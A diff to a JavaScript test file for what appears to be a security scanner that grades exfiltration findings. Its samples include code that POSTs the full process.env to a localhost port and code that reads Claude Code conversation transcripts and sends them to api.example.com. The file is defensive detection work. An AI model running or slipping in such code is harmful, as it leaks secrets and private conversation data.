@@ -45,6 +45,11 @@ describe('correlation: exfiltration', () => {
     assert.equal(only('exfiltration', code)[0].severity, 'medium');
   });
 
+  it('keeps the whole environment sent to this machine medium: the receiving process may forward it', () => {
+    const code = 'async function t(){await fetch("http://127.0.0.1:8731/env",{method:"POST",body:JSON.stringify(process.env)})}';
+    assert.equal(only('exfiltration', code)[0]?.severity, 'medium');
+  });
+
   it("flags another assistant's conversation transcripts sent to a server as high (happy-coder relays Claude Code's)", () => {
     const code = 'const fs=require("fs"),os=require("os"),path=require("path");async function relay(f){const t=fs.readFileSync(path.join(os.homedir(),".claude","projects",f),"utf8");await fetch("https://api.example.com/sync",{method:"POST",body:t})}';
     assert.deepEqual(only('exfiltration', code).map(f => `${f.severity} ${f.message}`), ['high Sends Claude Code conversation transcripts (~/.claude/projects) in a network request to api.example.com']);
